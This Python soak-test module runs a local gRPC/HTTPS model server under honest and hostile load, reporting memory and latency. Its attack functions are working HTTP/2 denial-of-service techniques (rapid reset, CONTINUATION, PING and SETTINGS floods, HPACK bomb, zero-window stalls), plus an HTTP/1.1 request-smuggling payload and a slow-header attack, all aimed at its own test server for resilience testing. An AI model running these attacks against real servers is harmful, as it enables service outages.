"""Honest and hostile traffic at once, for minutes: `python -m bench soak --seconds 600`.

A real daemon serves digits over TLS. Honest callers (stock grpcio, no retries; HTTP/1.1 pages) must be answered every
time; attackers do what is known to bring HTTP/2 servers down, over and over, with and without a key. Printed: what the
honest callers got, their latency, and the daemon's memory over time.
"""

import argparse
import contextlib
import http.client
import os
import random
import socket
import ssl
import struct
import threading
import time
from collections import Counter
from collections.abc import Callable
from dataclasses import dataclass, field

import grpc
from hpack import Encoder

from bench import workload
from bench.cpu import choose_cpus, tree_seconds
from bench.h2 import CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PREFACE, RESET, SETTINGS, WINDOW, frame
from bench.server import Server, serving


@dataclass
class Attack:
    """One hostile connection over TLS."""

    server: Server
    alpn: str = "h2"
    encoder: Encoder = field(default_factory=Encoder)

    def __enter__(self) -> "Attack":
        host, _, port = self.server.address.partition(":")
        context = ssl.create_default_context(cafile=str(self.server.ca))
        context.set_alpn_protocols([self.alpn])
        plain = socket.create_connection((host, int(port)), timeout=5)
        self.socket = context.wrap_socket(plain, server_hostname="localhost")
        self.socket.settimeout(2)
        if self.alpn == "h2":
            self.send(PREFACE + frame(SETTINGS, 0, 0))
        return self

    def __exit__(self, *_: object) -> None:
        self.socket.close()

    def send(self, data: bytes) -> None:
        """Raises OSError when the server has had enough."""
        self.socket.sendall(data)

    def head(self, *more: tuple[str, str], path: str = workload.METHOD) -> bytes:
        """The headers of a gRPC call."""
        fields = [(":method", "POST"), (":scheme", "https"), (":path", path), (":authority", "localhost")]
        return bytes(self.encoder.encode([*fields, ("content-type", "application/grpc"), ("te", "trailers"), *more]))

    def key(self) -> tuple[str, str]:
        """Credentials of a caller that misbehaves."""
        return ("authorization", f"Key {self.server.key}")

    def linger(self, seconds: float) -> None:
        """Stay, and read nothing."""
        time.sleep(seconds)


def rapid_reset(attack: Attack) -> None:
    for block in range(50):
        streams = range(1 + block * 200, 1 + (block + 1) * 200, 2)
        attack.send(b"".join(frame(HEADERS, 5, s, attack.head()) + frame(RESET, 0, s, b"\0\0\0\x08") for s in streams))


def made_you_reset(attack: Attack) -> None:
    for block in range(50):
        streams = range(1 + block * 200, 1 + (block + 1) * 200, 2)
        attack.send(b"".join(frame(HEADERS, 4, s, attack.head()) + frame(WINDOW, 0, s, b"\0\0\0\0") for s in streams))


def continuation_flood(attack: Attack) -> None:
    attack.send(frame(HEADERS, END_STREAM, 1, attack.head()))
    for _ in range(200):
        attack.send(frame(CONTINUATION, 0, 1) * 50)


def ping_flood(attack: Attack) -> None:
    for _ in range(400):
        attack.send(frame(PING, 0, 0, b"12345678") * 100)


def settings_flood(attack: Attack) -> None:
    for _ in range(100):
        attack.send(frame(SETTINGS, 0, 0, struct.pack(">HI", 4, random.randrange(1, 2**31))) * 50)


def empty_data(attack: Attack) -> None:
    attack.send(frame(HEADERS, END_HEADERS, 1, attack.head(attack.key())))
    for _ in range(400):
        attack.send(frame(DATA, 0, 1) * 100)


def hpack_bomb(attack: Attack) -> None:
    attack.send(frame(HEADERS, 5, 1, attack.head(("x-bomb", "v" * 3900))))
    for stream in range(3, 41, 2):
        attack.send(frame(HEADERS, 5, stream, attack.head() + b"\xbe" * 12_000))


def declared_bodies(attack: Attack) -> None:
    for stream in range(1, 401, 2):
        body = b"\0" + struct.pack(">I", 100 << 20) + b"x" * 1000
        attack.send(frame(HEADERS, 4, stream, attack.head()) + frame(DATA, 0, stream, body))
    attack.linger(0.5)


def zero_window(attack: Attack) -> None:
    request = workload_body()
    attack.send(frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0)))
    for stream in range(1, 401, 2):
        attack.send(frame(HEADERS, 4, stream, attack.head(attack.key())) + frame(DATA, 1, stream, request))
    attack.linger(2)


def never_read(attack: Attack) -> None:
    request = workload_body()
    attack.send(frame(WINDOW, 0, 0, struct.pack(">I", 1 << 30)))
    for stream in range(1, 20_001, 2):
        attack.send(frame(HEADERS, 4, stream, attack.head(attack.key())) + frame(DATA, 1, stream, request))


def noise(attack: Attack) -> None:
    for _ in range(50):
        attack.send(random.randbytes(500))


def slow_head(attack: Attack) -> None:
    for byte in frame(HEADERS, 4, 1, attack.head())[:-1]:
        attack.send(bytes((byte,)))
        time.sleep(0.02)


def http1_garbage(attack: Attack) -> None:
    attack.send(
        b"POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /admin "
    )
    attack.linger(0.2)


def http1_slow(attack: Attack) -> None:
    attack.send(b"GET /readyz HTTP/1.1\r\nHost: localhost\r\n")
    for _ in range(50):
        attack.send(b"x-a: b\r\n")
        time.sleep(0.05)


OVER_HTTP2: tuple[Callable[[Attack], None], ...] = (
    rapid_reset,
    made_you_reset,
    continuation_flood,
    ping_flood,
    settings_flood,
    empty_data,
    hpack_bomb,
    declared_bodies,
    zero_window,
    never_read,
    noise,
    slow_head,
)
OVER_HTTP1: tuple[Callable[[Attack], None], ...] = (http1_garbage, http1_slow)
_BODY: list[bytes] = []


def workload_body() -> bytes:
    """A framed request for digits."""
    return _BODY[0]


@dataclass
class Honest:
    """What the honest callers got."""

    ends: Counter[str] = field(default_factory=Counter)
    seconds: list[float] = field(default_factory=list)
    lock: threading.Lock = field(default_factory=threading.Lock)

    def note(self, end: str, seconds: float) -> None:
        """Count one call."""
        with self.lock:
            self.ends[end] += 1
            self.seconds.append(seconds)


def call_over_grpc(server: Server, body: bytes, honest: Honest, stop: threading.Event) -> None:
    """A stock client without retries; it connects anew from time to time."""
    credentials = grpc.ssl_channel_credentials(server.ca.read_bytes())
    port = server.address.partition(":")[2]
    while not stop.is_set():
        options = [("grpc.enable_retries", 0), ("grpc.use_local_subchannel_pool", 1)]
        with grpc.secure_channel(f"localhost:{port}", credentials, options=options) as channel:
            predict = channel.unary_unary(workload.METHOD)
            for _ in range(200):
                begun = time.perf_counter()
                try:
                    predict(body, timeout=60, metadata=(("authorization", f"Key {server.key}"),))
                    end = "gRPC answered"
                except grpc.RpcError as error:
                    end = f"gRPC {error.code().name}: {error.details()}"
                honest.note(end, time.perf_counter() - begun)
                if stop.wait(0.005):
                    break


def call_over_http(server: Server, honest: Honest, stop: threading.Event) -> None:
    """A balancer that asks for /readyz."""
    context = ssl.create_default_context(cafile=str(server.ca))
    port = int(server.address.partition(":")[2])
    while not stop.is_set():
        begun = time.perf_counter()
        connection = http.client.HTTPSConnection("localhost", port, timeout=60, context=context)
        try:
            connection.request("GET", "/readyz")
            end = f"HTTP {connection.getresponse().status}"
        except OSError as error:
            end = f"HTTP {type(error).__name__}"
        finally:
            connection.close()
        honest.note(end, time.perf_counter() - begun)
        stop.wait(0.2)


def attack_all_the_time(server: Server, done: Counter[str], stop: threading.Event) -> None:
    """One attack after the other; being thrown out is what attackers are there for."""
    while not stop.is_set():
        over_http1 = random.random() < 0.15
        attack = random.choice(OVER_HTTP1 if over_http1 else OVER_HTTP2)
        done[attack.__name__] += 1
        with contextlib.suppress(OSError), Attack(server, "http/1.1" if over_http1 else "h2") as connection:
            attack(connection)


def memory_kib(pid: int) -> int:
    """Resident memory of a process."""
    with open(f"/proc/{pid}/statm", encoding="ascii") as file:
        return int(file.read().split()[1]) * os.sysconf("SC_PAGE_SIZE") // 1024


def main(given: list[str] | None = None) -> None:
    """Run it, and print what came of it."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--seconds", type=float, default=600)
    parser.add_argument("--honest", type=int, default=3)
    parser.add_argument("--hostile", type=int, default=4)
    arguments = parser.parse_args(given)
    digits = workload.ROOT / "models" / "digits"
    body = digit_request()
    _BODY.append(b"\0" + struct.pack(">I", len(body)) + body)
    honest, attacks, stop = Honest(), Counter[str](), threading.Event()
    with serving(digits, choose_cpus().server) as server:
        threads = [threading.Thread(target=call_over_http, args=(server, honest, stop))]
        threads += [
            threading.Thread(target=call_over_grpc, args=(server, body, honest, stop)) for _ in range(arguments.honest)
        ]
        threads += [
            threading.Thread(target=attack_all_the_time, args=(server, attacks, stop), daemon=True)
            for _ in range(arguments.hostile)
        ]
        for thread in threads:
            thread.start()
        begun, cpu = time.monotonic(), tree_seconds(server.pid)
        while (passed := time.monotonic() - begun) < arguments.seconds:
            answered = sum(honest.ends.values())
            print(f"{passed:6.0f} s  {memory_kib(server.pid) / 1024:7.1f} MiB  {answered} honest calls", flush=True)
            time.sleep(min(30.0, arguments.seconds / 10))
        stop.set()
        for thread in threads[: 1 + arguments.honest]:
            thread.join()
        time.sleep(3)
        print(f"   end    {memory_kib(server.pid) / 1024:7.1f} MiB, CPU {tree_seconds(server.pid) - cpu:.0f} s")
        print("attacks:", dict(attacks.most_common()))
        print("honest:", dict(honest.ends.most_common()))
        ordered = sorted(honest.seconds)
        p50, p99 = (ordered[int(len(ordered) * share)] * 1e3 for share in (0.5, 0.99))
        print(f"latency: p50 {p50:.1f} ms, p99 {p99:.1f} ms")


def digit_request() -> bytes:
    """A request with one held-out digit."""
    from clarifai_grpc.grpc.api import resources_pb2, service_pb2

    picture = next((workload.ROOT / "models" / "digits" / "samples").glob("*.png")).read_bytes()
    given = resources_pb2.Input(data=resources_pb2.Data(image=resources_pb2.Image(base64=picture)))
    ids = resources_pb2.UserAppIDSet(user_id="appliance", app_id="main")
    request = service_pb2.PostModelOutputsRequest(user_app_id=ids, model_id="digits", inputs=[given])
    return bytes(request.SerializeToString())


if __name__ == "__main__":
    main()
